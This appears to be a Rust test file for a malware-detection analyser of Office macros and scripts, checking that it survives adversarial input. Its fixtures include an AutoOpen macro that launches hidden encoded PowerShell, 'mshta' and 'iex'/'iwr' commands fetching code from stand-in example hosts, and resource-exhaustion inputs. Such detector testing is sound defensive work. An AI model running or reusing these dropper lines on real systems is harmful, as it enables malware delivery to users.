//! Bytes nobody would write in good faith.

use super::*;
use proptest::prelude::*;
use std::collections::BTreeSet;

const SAMPLE: &str = "Sub AutoOpen()\nDim s As String: s = \"power\" & Chr(115) & \"hell -e \" & _\n \"aQB3AHIA\"\n\
    With CreateObject(\"WScript.Shell\"): .Run Replace(s, \"x\", \"\"), 0: End With\nEnd Sub\n";

fn survive(code: &str) {
    let limits = Limits { steps_max: 20_000, ..Limits::desk() };
    survey_vba(&[module("M", ModuleKind::Standard, code)], &limits);
    read_command(code, &limits);
    survey_text(code, &limits);
    for name in ["a.ps1", "a.bat", "a.vbs", "a.js", "a.hta"] {
        survey_file(name, code, &limits);
    }
}

#[test]
fn ends_anywhere() {
    for text in [
        SAMPLE,
        "powershell -w hidden -e aQB3AHIA",
        "('a'+\"b$c`\"-f [char]4",
        "cmd /c set a=b&&%a:~1,2%!a:b=c!",
    ] {
        for (at, _) in text.char_indices() {
            let (front, back) = text.split_at(at);
            survive(front);
            survive(back);
        }
    }
}

#[test]
fn nests_and_repeats_without_end() {
    for unit in [
        "(",
        "[",
        "\"",
        "'",
        "x = ((",
        "s = s & s\n",
        "If a Then ",
        "With a\n",
        "Sub a()\na\n",
        "a.b(",
        "& ",
        "-f ",
        "$a+",
        "('a'+",
        "@(",
        "[char]",
        "%a%",
        "^",
        "`",
        "set a=%a%%a%&",
        "-join ",
        "Shell(",
        "powershell ",
        "cmd ",
        "powershell -",
        "x=Replace(x,\"a\",\"aa\")\n",
        "a:",
        "_\n",
        "&H",
        "1e",
        "[a",
        "x(1)=",
        "x=Array(x,x)\n",
        "Dim x(9)\nx(1)=x\n",
        "ReDim Preserve x(9)\n",
        "Mid(x,1)=x&x\n",
        "{0}",
        "Not ",
        "-",
        ",",
        "frombase64string('",
        "$a='",
        "\u{3042}",
        "{",
        "function(",
        "for %i in (",
        "$(",
        "\"$(",
        "a?",
        "<script>",
        "#@~^",
        "$a=$a+$a;",
        "while(1){",
        "do\n",
        "select case a\ncase 1\n",
        "class a\n",
        "for i = 1 to 9\n",
        "dim a(999999)\n",
        "1..9999999|%{$_};",
    ] {
        let text = unit.repeat(6_000 / unit.len());
        survive(&text);
        survive(&format!("Sub AutoOpen()\nx = {text}\nShell x\nEnd Sub"));
    }
}

#[test]
fn a_string_that_doubles_meets_its_limit() {
    let code = format!("Sub AutoOpen()\ns = \"abcdefgh\"\n{}Shell s\nEnd Sub", "s = s & s & s\n".repeat(60));
    let parsed = survey_vba(&[module("M", ModuleKind::Standard, &code)], &Limits::desk());
    assert!(parsed.value.calls.iter().any(|call| call.name == "Shell"));
    assert!(parsed.problems.iter().any(|p| p.limit.as_ref().is_some_and(|l| l.name == "steps_max")));
}

#[test]
fn arrays_inside_arrays_overflowed_the_stack() {
    let code =
        format!("Sub AutoOpen()\nx = \"a\"\n{}Shell \"calc\"\nEnd Sub", "x = Array(x)\n".repeat(50_000));
    assert!(survey(&code).calls.iter().any(|call| call.argument == "calc"));
}

#[test]
fn arrays_that_double_took_half_a_gigabyte() {
    let wide = (0..60).map(|_| "x").collect::<Vec<_>>().join(", ");
    let code = format!(
        "Sub AutoOpen()\nx = \"a\"\n{}Shell \"calc\"\nEnd Sub",
        format!("x = Array({wide})\n").repeat(9)
    );
    assert!(survey(&code).calls.iter().any(|call| call.argument == "calc"));
    // Deep and narrow ends by the depth, wide by how much one array may hold.
    let code =
        format!("Sub AutoOpen()\nx = \"a\"\n{}Shell \"calc\"\nEnd Sub", "x = Array(x, x)\n".repeat(60));
    assert!(survey(&code).calls.iter().any(|call| call.argument == "calc"));
}

#[test]
fn functions_that_call_themselves_end() {
    let survey = survey(
        "Function f(s)\nf = f(s & \"x\") & g\nEnd Function\nFunction g()\ng = f(\"a\") & g\nEnd Function\n\
        Sub AutoOpen()\nShell f(\"a\") & \"calc\"\nEnd Sub",
    );
    assert!(survey.calls.iter().any(|call| call.argument.contains("calc")));
}

#[test]
fn limits_are_told() {
    let limits = Limits { modules_max: 1, macro_bytes_max: 10, layers_max: 1, ..Limits::desk() };
    let modules = [
        module("A", ModuleKind::Standard, "Sub AutoOpen()\nEnd Sub"),
        module("B", ModuleKind::Standard, "Sub AutoOpen()\nEnd Sub"),
    ];
    let parsed = survey_vba(&modules, &limits);
    assert_eq!(parsed.value, Survey::default());
    assert_eq!(
        parsed.problems,
        [Problem::limit("vba", "modules_max", 1), Problem::limit("A", "macro_bytes_max", 10)]
    );

    let cut = read_command("powershell -c \"iex ('a'+'b')\"", &limits);
    assert_eq!(cut.problems, [Problem::limit("text", "layers_max", 1)]);
}

/// Many scripts that never end, read with few steps: the limits that were met, by name and value.
#[track_caller]
fn check_told(parsed: Parsed<Survey>, commands_max: usize, expected: &[(&str, u64)]) {
    let met: BTreeSet<(String, u64)> = parsed
        .problems
        .into_iter()
        .filter_map(|problem| problem.limit.map(|limit| (limit.name, limit.value)))
        .collect();
    let expected: BTreeSet<(String, u64)> =
        expected.iter().map(|(name, value)| ((*name).to_owned(), *value)).collect();
    assert_eq!(met, expected);
    assert!(parsed.value.commands.len() <= commands_max, "{} commands", parsed.value.commands.len());
}

/// A line for `start` a number, each with another endless loop.
fn loops(start: impl Fn(usize) -> String) -> String {
    (0..20).map(|at| start(at) + "\n").collect()
}

#[test]
fn steps_that_were_left_were_told_as_the_limit() {
    let limits = Limits { steps_max: 20_000, commands_max: 10, ..Limits::desk() };
    let both = [("steps_max", 20_000), ("commands_max", 10)];
    let batch = loops(|at| format!("powershell -c \"while(1){{$x{at}++}}\""));
    check_told(survey_file("a.bat", &batch, &limits), 10, &both);
    check_told(survey_file("a.txt", &batch, &limits), 10, &both);
    let run =
        |at| format!("CreateObject(\"WScript.Shell\").Run \"powershell -c \"\"while(1){{$x{at}++}}\"\"\"");
    check_told(survey_file("a.vbs", &loops(run), &limits), 11, &both);
    let shell = loops(|at| format!("Shell \"powershell -c \"\"while(1){{$x{at}++}}\"\"\""));
    let module = module("M", ModuleKind::Standard, &format!("Sub AutoOpen()\n{shell}End Sub"));
    check_told(survey_vba(&[module], &limits), 10, &both);
    // Inside a line, too.
    let line = "start mshta vbscript:while(1):x=x+1:wend";
    check_told(survey_file("a.bat", line, &limits), 1, &[("steps_max", 20_000)]);
}

#[test]
fn each_command_and_each_script_of_a_page_had_all_steps_anew() {
    let limits = Limits { steps_max: 200_000, ..Limits::desk() };
    let looped = "Dim x\nx = 0\nwhile true\nx = x + 1\nwend\n";
    let mut steps = Steps::new(&limits);
    let page = format!("<script language=vbscript>{looped}</script>\n").repeat(60);
    let mut problems = Vec::new();
    command::survey_lines("a.hta", &page, &limits, &mut problems, &mut steps);
    assert_eq!((steps.scripts, problems), (0, vec![Problem::limit("text", "steps_max", 200_000)]));
    let scripts = [looped; 60];
    let told = survey_page(scripts.into_iter(), &limits).problems;
    assert_eq!(told, [Problem::limit("text", "steps_max", 200_000)]);
}

#[test]
fn scripts_of_a_page_told_a_number_that_is_no_limit() {
    let page = "<script language=vbscript>x = 1</script>\n".repeat(70);
    let problems = survey_file("a.hta", &page, &Limits::desk()).problems;
    assert_eq!(problems.len(), 1);
    assert!(problems.iter().all(|problem| problem.limit.is_none()), "{problems:?}");
}

#[test]
fn urls_of_a_script_came_on_top_of_those_of_what_it_runs() {
    let limits = Limits { urls_max: 3, ..Limits::desk() };
    let outside = "// http://d.example/ http://e.example/ http://f.example/";
    let run = "eval(unescape('var%20a=\\'http://a.example/ http://b.example/ http://c.example/\\''));";
    let parsed = survey_file("a.js", &format!("{run}\n{outside}"), &limits);
    assert_eq!(parsed.value.urls.len(), 3);
    assert!(parsed.problems.contains(&Problem::limit("text", "urls_max", 3)), "{:?}", parsed.problems);
}

#[test]
fn copies_of_a_value_that_doubles_cost_nothing() {
    let limits = Limits { text_bytes_max: 64 << 10, ..Limits::desk() };
    let doubled = format!("set x=0123456789abcdef\r\n{}", "set x=%x%%x%\r\n".repeat(12));
    for (line, name, value) in [
        // A value of 64 KiB, copied 200,000 times.
        ("for /l %%i in (1,1,8000) do echo ".to_owned() + &"%x:~1,1%".repeat(200), "steps_max", 2_000_000),
        // Each sign becomes a hundred.
        (format!("set y=%x:0={}%{}", "z".repeat(64), "\r\ncurl %y%"), "text_bytes_max", 64 << 10),
        ("for %%i in (%x%) do echo ".to_owned() + &"%%i".repeat(100), "text_bytes_max", 64 << 10),
    ] {
        let met = survey_file("a.bat", &format!("{doubled}{line}\r\n"), &limits).problems;
        assert!(met.contains(&Problem::limit("text", name, value)), "{met:?}");
    }
}

#[test]
fn urls_of_each_command_were_looked_for_in_the_whole_script_for_nothing() {
    let text = format!("{}http://a.example/x", " ".repeat(8 << 10));
    let urls = url::find(&text, &Limits::desk()).value;
    let mut steps = 25;
    let stands = (0..4).map(|_| host::stand(&urls, &text, &mut steps)).collect::<Vec<_>>();
    assert_eq!((stands, steps), (vec![true, true, false, false], 0));
}

#[test]
fn parentheses_of_a_block_were_counted_anew_at_each_line() {
    let code = format!("{}curl http://a.example/x\n", "(\n".repeat(100_000));
    let survey = survey_file("a.bat", &code, &Limits::desk()).value;
    assert!(survey.urls.iter().any(|url| url.text == "http://a.example/x"), "{survey:?}");
}

/// Runs a project and tells whether the fuel was spent, and what was not followed.
fn bounded(code: &str) -> (Survey, bool) {
    let parsed = survey_vba(&[module("M", ModuleKind::Standard, code)], &Limits::desk());
    let spent = parsed.problems.iter().any(|p| p.limit.as_ref().is_some_and(|l| l.name == "steps_max"));
    (parsed.value, spent)
}

#[track_caller]
fn check_reached(code: &str) {
    let (survey, spent) = bounded(code);
    assert!(survey.calls.iter().any(|call| call.argument == "calc"), "{:?}", survey.calls);
    assert!(!spent);
}

#[track_caller]
fn check_stopped(code: &str, why: Obstacle) {
    let (survey, spent) = bounded(code);
    assert!(survey.unfollowed.iter().any(|place| place.obstacle == why), "{:?}", survey.unfollowed);
    assert_eq!(spent, why == Obstacle::Steps);
}

#[test]
fn loops_that_only_wait_are_left() {
    check_reached("Sub AutoOpen()\nDo\nx = x + 1\nLoop\nc = \"calc\"\nShell c\nEnd Sub");
    check_reached(
        "Sub AutoOpen()\nFor i = 1 To 1000000000\ny = Sin(i) * 3\nNext\nc = \"calc\"\nShell c\nEnd Sub",
    );
    check_reached(
        "Sub AutoOpen()\nFor i = 1 To 90000\nFor j = 1 To 90000\nk = j Xor i\nNext j, i\nc = \"calc\"\nShell c\nEnd Sub",
    );
    check_reached("Sub AutoOpen()\nagain: If Timer > 3 Then GoTo again\nc = \"calc\"\nShell c\nEnd Sub");
}

#[test]
fn loops_that_grow_without_end_spend_the_fuel_and_say_so() {
    check_stopped("Sub AutoOpen()\nDo\ns = s & \"x\"\nLoop\nShell \"a\" & s\nEnd Sub", Obstacle::Steps);
    check_stopped(
        "Sub AutoOpen()\nagain:\ns = s & \"x\"\nGoTo again\nShell \"a\" & s\nEnd Sub",
        Obstacle::Steps,
    );
    check_stopped(
        "Sub AutoOpen()\nDim a(60000)\nDo\ni = (i + 1) Mod 60000\na(i) = a(i) & \"xxxxxxxxxxxxxxxxxxxxxxxxxx\"\nLoop\nShell a(1)\nEnd Sub",
        Obstacle::Steps,
    );
}

/// A project whose one endless procedure, begun as told, stands beside `rest`.
#[track_caller]
fn check_endless_library(endless: &str, rest: &str, spends: bool) {
    let code = format!("Sub library(p)\n{endless}\nDo\ns = s & \"x\"\nLoop\nEnd Sub\n{rest}");
    let (survey, spent) = bounded(&code);
    let told = survey.unfollowed.iter().any(|place| place.obstacle == Obstacle::Steps);
    assert!(told, "{:?}", survey.unfollowed);
    assert_eq!(spent, spends, "{code}");
}

#[test]
fn an_endless_procedure_nobody_calls_kept_a_library_undecided() {
    let starts = "Set w = CreateObject(\"WScript.Shell\")\nw.Run p";
    // No entry point at all; one that leads elsewhere; one that leads there by a way that is not gone.
    check_endless_library(starts, "", false);
    check_endless_library(starts, "Sub AutoOpen()\nShell \"calc\"\nEnd Sub", false);
    let led = "Sub AutoOpen()\nIf 1 > 2 Then library \"calc\"\nEnd Sub";
    check_endless_library(starts, led, false);
    // Where it never came to a start of a program, what it would start is not known.
    let (survey, spent) = bounded(&format!(
        "Sub library(p)\nDo\ns = s & \"x\"\nLoop While Len(s) > 0\nShell s\nEnd Sub\n{led}"
    ));
    assert!(spent, "{:?}", survey.calls);
}

#[test]
fn calls_without_end_are_said() {
    check_stopped(
        "Function f(n)\nf = f(n + 1)\nEnd Function\nSub AutoOpen()\nShell f(1)\nEnd Sub",
        Obstacle::Depth,
    );
    let deep = format!("Function f(n)\nf = {}f(n + 1){}\nEnd Function\n", "(1 + ".repeat(25), ")".repeat(25));
    check_stopped(&format!("{deep}Sub AutoOpen()\nShell f(1)\nEnd Sub"), Obstacle::Depth);
    let nested = format!("Function f(n)\nf = {}f(n + 1){}\nEnd Function\n", "g(".repeat(25), ")".repeat(25));
    check_stopped(
        &format!("{nested}Function g(n)\ng = n\nEnd Function\nSub AutoOpen()\nShell f(1)\nEnd Sub"),
        Obstacle::Depth,
    );
    let parentheses = format!("x = {}1{}\n", "(".repeat(500), ")".repeat(500));
    check_stopped(&format!("Sub AutoOpen()\n{parentheses}Shell x\nEnd Sub"), Obstacle::Statement);
    let forks = "Sub walk(p)\nIf Dir(p) = \"\" Then walk p & \"a\" Else walk p & \"b\"\nEnd Sub\n";
    check_stopped(&format!("{forks}Sub AutoOpen()\nwalk \"c\"\nShell x\nEnd Sub"), Obstacle::Depth);
}

#[test]
fn a_thousand_conditions_nobody_knows_are_two_ways_at_a_time() {
    let code = "If Timer > 1 Then s = s & \"a\" Else s = s & \"b\"\n".repeat(1_000);
    let (survey, spent) = bounded(&format!("Sub AutoOpen()\ns = \"calc \"\n{code}Shell s\nEnd Sub"));
    assert!(survey.calls.iter().any(|call| call.argument.starts_with("calc …")), "{:?}", survey.calls);
    assert!(!spent);
    // Jumps that never meet again.
    let mut jumps = String::new();
    for at in 0..200 {
        writeln!(jumps, "If Timer > {at} Then GoTo z{at}").unwrap();
    }
    for at in 0..200 {
        writeln!(jumps, "z{at}: s = s & \"{at}\"").unwrap();
    }
    check_stopped(&format!("Sub AutoOpen()\n{jumps}Shell s\nEnd Sub"), Obstacle::States);
}

#[test]
fn long_lines_and_many_procedures() {
    let joined = vec!["\"a\""; 300_000].join(" & ");
    let (survey, _) =
        bounded(&format!("Sub AutoOpen()\ns = {joined}\nShell \"calc \" & Left(s, 3)\nEnd Sub"));
    assert!(survey.calls.iter().any(|call| call.argument.starts_with("calc ")), "{:?}", survey.calls);
    let mut many = String::new();
    for at in 0..5_000 {
        writeln!(many, "Function f{at}(x)\nf{at} = x & \"{}\"\nEnd Function", at % 10).unwrap();
    }
    let calls: String = (0..5_000).map(|at| format!("s = f{at}(s)\n")).collect();
    let (survey, spent) =
        bounded(&format!("{many}Sub AutoOpen()\n{calls}Shell \"calc\" & Right(s, 3)\nEnd Sub"));
    assert!(survey.calls.iter().any(|call| call.argument == "calc789"), "{:?}", survey.calls);
    assert!(!spent);
}

proptest! {
    #[test]
    fn any_mutation_is_survived(at in 0usize..220, len in 0usize..20, with in "\\PC{0,8}|[\"'&()\\[\\]$%^`\\n_:.=-]{0,12}") {
        let mut text: Vec<char> = SAMPLE.chars().collect();
        let at = at.min(text.len());
        let end = (at + len).min(text.len());
        text.splice(at..end, with.chars());
        survive(&text.into_iter().collect::<String>());
    }
}

/// Each problem of a script in a file of that name.
fn problems(name: &str, text: &str) -> Vec<Problem> {
    survey_file(name, text, &Limits::desk()).problems
}

#[test]
fn scripts_that_never_end_meet_their_limit() {
    for (name, text) in [
        ("a.js", "var s='ab';for(;;){s+=s}"),
        ("a.js", "function f(){for(var i=0;i<9;i++)f();return f()}f()"),
        ("a.vbs", "For i = 1 To 2000000000\nx = x & \"a\"\nNext"),
        ("a.vbs", "Sub f\nFor i = 1 To 9\nf\nNext\nEnd Sub\nf"),
        ("a.ps1", "for($i=0;$i -lt 2000000000;$i++){$s+='a'}"),
        ("a.ps1", "function f{1..9|%{f}};f"),
        ("a.bat", "for /l %%i in (1,1,9999) do for /l %%j in (1,1,9999) do set x=%%i%%j"),
    ] {
        let found = problems(name, text);
        assert!(found.iter().any(|problem| problem.limit.is_some()), "{text}: {found:?}");
    }
}

#[test]
fn what_stands_behind_a_loop_that_only_waits_is_read() {
    for (name, text) in [
        ("a.js", "for(;;){a=1;b=a}new ActiveXObject('WScript.Shell').Run('mshta http://a.example/x')"),
        (
            "a.vbs",
            "Do While WScript.Interactive\nWScript.Sleep 9\nLoop\nCreateObject(\"WScript.Shell\").Run \"mshta http://a.example/x\"",
        ),
        ("a.ps1", "while($true){sleep 9};mshta http://a.example/x"),
    ] {
        let parsed = survey_file(name, text, &Limits::desk());
        assert!(parsed.value.commands.iter().any(|command| command.fetches), "{text}");
    }
}

#[test]
fn strings_that_double_end() {
    for (name, text) in [
        ("a.js", "var s='abcdefgh';for(var i=0;i<99;i++)s=s+s;new ActiveXObject('WScript.Shell').Run(s)"),
        (
            "a.vbs",
            "s = \"abcdefgh\"\nFor i = 1 To 99\ns = s & s\nNext\nCreateObject(\"WScript.Shell\").Run s",
        ),
        ("a.ps1", "$s='abcdefgh';1..99|%{$s+=$s};start-process $s"),
        ("a.ps1", "$s='a'*999999999;iex $s"),
        ("a.bat", "set s=abcdefgh\nfor /l %%i in (1,1,99) do call set s=%%s%%%%s%%\n%s%"),
        ("a.vbs", "s = String(2000000000, \"a\")\nx = Replace(s, \"a\", s)"),
        ("a.js", "var a=[1];for(var i=0;i<99;i++)a=a.concat(a);a.join('')"),
    ] {
        let parsed = survey_file(name, text, &Limits::desk());
        let longest = parsed.value.commands.iter().map(|command| command.script.len()).max().unwrap_or(0);
        assert!(longest <= Limits::desk().text_bytes_max, "{text}");
    }
}

#[test]
fn layers_without_end_are_told() {
    let mut text = "iwr http://a.example/x".to_owned();
    for _ in 0..50 {
        text = format!("iex '{}'", text.replace('\'', "''"));
        if text.len() > 1 << 20 {
            break;
        }
    }
    let told = |found: Vec<Problem>| {
        found.iter().any(|problem| problem.limit.as_ref().is_some_and(|l| l.name == "layers_max"))
    };
    assert!(told(problems("a.ps1", &text)));
    let call = "powershell -c ".repeat(50) + "iwr http://a.example/x";
    assert!(told(problems("a.ps1", &call)));
    assert_eq!(problems("a.js", "eval(unescape('x%3d\"a\";eval(x+\"\")'))"), []);
    let circle = "function f(){eval('f()')}f()";
    assert!(told(problems("a.js", circle)));
    assert!(told(problems("a.vbs", "Sub f\nExecute \"f\"\nEnd Sub\nf")));
}

#[test]
fn patterns_cannot_explode() {
    let long = "a".repeat(30_000);
    for (name, text) in [
        ("a.js", format!("'{long}'.replace(/(a+)+b/g,'')")),
        ("a.ps1", format!("'{long}' -replace '(a*)*b','c'")),
        ("a.vbs", format!("Set r = New RegExp\nr.Pattern = \"(a|aa)+$b\"\nx = r.Replace(\"{long}\", \"\")")),
        ("a.js", format!("'{long}'.match(/{}/)", "(".repeat(2_000))),
        ("a.ps1", format!("'{long}' -match 'a{{1000}}{{1000}}{{1000}}'")),
    ] {
        assert_eq!(problems(name, &text), [], "{}", text.get(..40).unwrap());
    }
}

#[test]
fn more_commands_than_the_limit_are_told() {
    let text = "mshta http://a.example/x\r\n".repeat(400);
    let parsed = survey_file("a.bat", &text, &Limits::desk());
    assert_eq!(parsed.value.commands.len(), 256);
    assert_eq!(parsed.problems, [Problem::limit("text", "commands_max", 256)]);
}

#[test]
fn a_script_of_more_words_than_are_read_took_half_a_gigabyte() {
    for (name, unit) in [("a.js", "a;"), ("a.js", "("), ("a.vbs", "a=b\n"), ("a.ps1", "$a;")] {
        let whole = problems(name, &unit.repeat(510_000 / unit.len().min(2)));
        let told = Problem::limit("text", "steps_max", Limits::desk().steps_max);
        assert!(whole.contains(&told), "{name} {unit}: {whole:?}");
    }
    // One long word is one word.
    assert_eq!(problems("a.js", &format!("var a = '{}';", "A".repeat(1_000_000))), []);
}
